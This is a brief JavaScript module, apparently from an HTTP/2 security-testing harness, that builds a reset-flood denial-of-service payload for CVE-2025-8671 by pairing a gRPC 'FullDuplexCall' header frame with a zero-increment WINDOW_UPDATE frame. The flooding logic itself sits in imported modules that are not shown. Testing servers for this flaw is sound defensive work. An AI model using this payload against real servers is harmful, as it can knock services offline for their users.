import { header, windowUpdate } from './call.js';
import { resetFlood } from './reset-flood.js';

/** CVE-2025-8671: WINDOW_UPDATE of nothing (RFC 9113 section 6.9). */
export const attack = resetFlood('made you reset: zero increment', (id) =>
  Buffer.concat([header(id, 'FullDuplexCall'), windowUpdate(id, 0)]),
);
